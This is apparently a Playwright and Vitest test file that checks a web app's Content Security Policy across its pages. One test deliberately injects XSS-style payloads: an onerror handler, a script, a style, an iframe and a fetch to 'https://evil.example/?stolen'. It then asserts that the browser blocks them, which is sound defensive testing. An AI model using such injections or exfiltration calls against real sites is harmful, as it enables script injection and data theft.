import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { listPages } from "./page-list.ts";
import { openPageWorld, type PageWorld } from "./page-world.ts";

/** The policy that every page is sent with, as a real browser takes it. */
let world: PageWorld;
let url: string;

beforeAll(async () => {
  world = await openPageWorld();
  const data = world.data("data");
  await world.loadSmallShop(data);
  url = await world.serve(data);
});
afterAll(() => world?.close());

/** What the browser refuses of a page, from its first moment on. */
async function visit(path: string): Promise<{ page: Page; violations: string[] }> {
  const { page } = await world.visit(`${url}/healthz`);
  const violations: string[] = [];
  await page.exposeFunction("tell", (violation: string) => void violations.push(violation));
  await page.addInitScript(
    `document.addEventListener("securitypolicyviolation", (event) =>
      window.tell([event.violatedDirective, event.blockedURI, event.sourceFile, event.lineNumber].join(" ")))`,
  );
  await page.goto(`${url}${path}`);
  return { page, violations };
}

test.each(listPages())(
  "page %s breaks nothing of it, in light and dark, also when charts are pointed at",
  async (path) => {
    const { page, violations } = await visit(`/w/default${path}`);
    await page.locator("main h1").first().waitFor();
    await page.waitForLoadState("networkidle");
    for (const figure of await page.locator("figure svg, figure .plot").all())
      await figure.hover({ timeout: 2_000, force: true }).catch(() => undefined);
    await page.emulateMedia({ colorScheme: "dark" });
    expect(violations).toEqual([]);
    await page.context().close();
  },
);

test("a script, a style, a frame and a question that somebody has smuggled in come to nothing", async () => {
  const { page, violations } = await visit("/w/default/");
  await page.locator("main").waitFor();
  await page.evaluate(`
    document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.smuggled = 1"><p style="color: red">x</p>');
    for (const [name, text] of [["script", "window.smuggled = 1"], ["style", "p { color: red }"]])
      document.body.append(Object.assign(document.createElement(name), { textContent: text }));
    document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }));
    fetch("https://evil.example/?stolen").catch(() => 0);
  `);
  const refused = () => [...new Set(violations.map((violation) => violation.split(" ")[0]))].sort();
  await expect
    .poll(refused)
    .toEqual(["connect-src", "frame-src", "script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem"]);
  expect(await page.evaluate("window.smuggled")).toBeUndefined();
  await page.context().close();
});
